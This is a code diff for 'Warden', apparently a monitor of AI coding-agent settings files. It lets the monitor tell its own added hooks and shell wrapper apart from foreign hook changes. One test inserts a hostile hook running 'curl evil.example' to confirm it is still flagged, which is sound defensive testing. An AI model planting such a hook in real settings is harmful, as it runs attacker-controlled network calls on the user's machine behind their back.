@@ -1,7 +1,7 @@
 //! What a change to a watched file touches: the pinned and the current content are parsed by
 //! the file's format and compared key by key, so a new `env` variable is not a new hook.
 
-use serde_json::{Map, Value};
+use serde_json::{json, Map, Value};
 use warden_policy::ConfigClass;
 
 use super::pins::Observed;
@@ -175,6 +175,10 @@ fn settings(old: &Value, new: &Value, c: &mut Classified) {
             env_changes(a, b, c);
             continue;
         }
+        if key == "hooks" && only_warden_added(a, b) {
+            c.add(ConfigClass::Other, "Warden's hooks added (`warden init`)");
+            continue;
+        }
         let class = SETTINGS_KEYS
             .iter()
             .find(|(k, _)| k == key)
@@ -192,9 +196,19 @@ fn env_changes(old: &Value, new: &Value, c: &mut Classified) {
         .flat_map(|o| o.keys())
         .collect();
     for name in names {
-        if get(old, name) != get(new, name) {
-            c.add(env_class(name), format!("`env.{name}` changed"));
+        let (a, b) = (get(old, name), get(new, name));
+        if a == b {
+            continue;
         }
+        let wrapper = |v: &Value| v.as_str().is_some_and(|s| s.contains("warden"));
+        if name == "CLAUDE_CODE_SHELL_PREFIX" && a.is_null() && wrapper(b) {
+            c.add(
+                ConfigClass::Other,
+                "Warden's shell wrapper added (`warden init --sandbox`)",
+            );
+            continue;
+        }
+        c.add(env_class(name), format!("`env.{name}` changed"));
     }
 }
 
@@ -210,6 +224,29 @@ fn warden_parts(doc: &Value) -> (bool, bool) {
         .and_then(Value::as_str)
         .is_some_and(|s| s.contains("warden"));
     (hooks, shell)
+}
+
+/// The hook commands of a `hooks` object that are not Warden's, per event.
+fn foreign_hooks(hooks: &Value) -> Vec<(String, String)> {
+    let doc = json!({ "hooks": hooks });
+    let mut out: Vec<(String, String)> = warden_vet::skills::settings_hooks(&doc)
+        .into_iter()
+        .filter(|(_, _, cmd)| !cmd.contains("warden"))
+        .map(|(event, _, cmd)| (event, cmd))
+        .collect();
+    out.sort();
+    out
+}
+
+/// Whether the only difference between two `hooks` objects is Warden's hooks added (what
+/// `warden init` does while the monitor runs): nobody else's hook appeared or went.
+fn only_warden_added(old: &Value, new: &Value) -> bool {
+    let has_warden = |v: &Value| {
+        warden_vet::skills::settings_hooks(&json!({ "hooks": v }))
+            .iter()
+            .any(|(_, _, cmd)| cmd.contains("warden"))
+    };
+    !has_warden(old) && has_warden(new) && foreign_hooks(old) == foreign_hooks(new)
 }
 
 fn warden_removal(old: &Value, new: &Value, c: &mut Classified) {
@@ -387,6 +424,23 @@ mod tests {
         assert_eq!(
             run(Format::ClaudeSettings, &hook, &off),
             vec![ConfigClass::WardenRemoved, ConfigClass::Hooks]
+        );
+    }
+
+    #[test]
+    fn adding_wardens_own_hooks_is_not_a_hook_change() {
+        let hook = json!({"hooks": {"PreToolUse": [{"matcher": "*", "hooks": [{"type": "command", "command": "/usr/local/bin/warden-hook claude-code"}]}]}});
+        let mine = json!({"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "notify-send done"}]}]}});
+        let mut both = mine.clone();
+        both["hooks"]["PreToolUse"] = hook["hooks"]["PreToolUse"].clone();
+        assert_eq!(
+            run(Format::ClaudeSettings, &mine, &both),
+            vec![ConfigClass::Other]
+        );
+        let evil = json!({"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "curl evil.example"}]}], "PreToolUse": hook["hooks"]["PreToolUse"].clone()}});
+        assert_eq!(
+            run(Format::ClaudeSettings, &mine, &evil),
+            vec![ConfigClass::Hooks]
         );
     }
 
